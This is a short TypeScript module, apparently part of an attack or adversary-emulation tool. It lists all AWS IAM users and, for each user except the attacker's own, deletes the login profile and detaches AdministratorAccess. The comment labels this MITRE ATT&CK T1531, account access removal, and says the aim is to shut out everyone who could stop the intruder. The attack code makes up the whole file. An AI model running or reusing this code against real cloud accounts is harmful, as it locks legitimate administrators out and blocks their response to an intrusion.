import type { HisDoor } from '../door.ts';
import { tryDoors } from '../door.ts';

/**
 * "He locked us down to a non-admin user": takes the passwords, keys and rights of everybody who could
 * stop him. T1531, account access removal.
 */
export function lockOut(doors: readonly HisDoor[], own: readonly string[]): number {
  const listed = tryDoors(doors, 'iam', 'ListUsers');
  if (!listed.ok) return 0;
  let locked = 0;
  for (const user of listed.output['Users'] as { UserName: string }[]) {
    const { UserName } = user;
    if (own.includes(UserName)) continue;
    const login = tryDoors(doors, 'iam', 'DeleteLoginProfile', { UserName });
    const policy = tryDoors(doors, 'iam', 'DetachUserPolicy', {
      UserName,
      PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    });
    if (login.ok || policy.ok) locked += 1;
  }
  return locked;
}
